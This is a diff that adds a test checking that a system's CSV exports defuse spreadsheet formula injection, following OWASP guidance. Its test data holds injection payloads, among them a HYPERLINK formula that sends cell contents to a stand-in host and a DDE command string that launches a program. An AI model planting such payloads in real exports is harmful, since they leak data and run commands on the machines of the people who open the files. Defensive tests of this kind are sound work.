@@ -1128,3 +1128,33 @@ def test_sim_show_and_the_sms_queue(simfilled):
     assert len(unsent) == s["sms_cancelled"]
     assert all((q["kind"], q["state"], q["last_error"]) == ("alert", "dropped", "acknowledged")
                for q in unsent)
+
+
+# ------------------------------------------------------- CSV formula injection
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_defused(env):
+    """OWASP CSV injection: a cell starting with = + - @ tab or CR is quoted and
+    prefixed with a single quote; numbers in numeric columns are left as they are."""
+    b, g, c = env.standard()
+    g.wait_log(r"subscribed to")
+    nasty = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
+             "-2+3", "@SUM(1,2)"]
+    refs = {}
+    for i, d in enumerate(nasty):
+        unit = "csv%d" % i
+        c.publish(gwtest.in_topic("shopwatch", unit), "ASB HB12 " + d, qos=1)
+        m = c.inbox.take_topic(gwtest.out_topic("shopwatch", unit), t(10))
+        ref = OK_REPORT.match(m.text)
+        assert ref, m.text
+        refs["R" + ref.group(1)] = d
+    for args in (("export", "--format", "csv"), ("reports", "--csv")):
+        text = g.ctl(*args).stdout
+        rows = list(csv.DictReader(io.StringIO(text)))
+        assert sorted(r["ref"] for r in rows) == sorted(refs)
+        for r in rows:
+            assert r["details"] == "'" + refs[r["ref"]], r
+            assert r["code"] == "ASB" and r["zone"] == "HB12" and r["priority"].isdigit()
+            float(r["lat"]), float(r["lon"])
+        for d in nasty:
+            # Quoted, so a spreadsheet that strips the quote still sees text.
+            assert '"\'' + d.replace('"', '""') + '"' in text
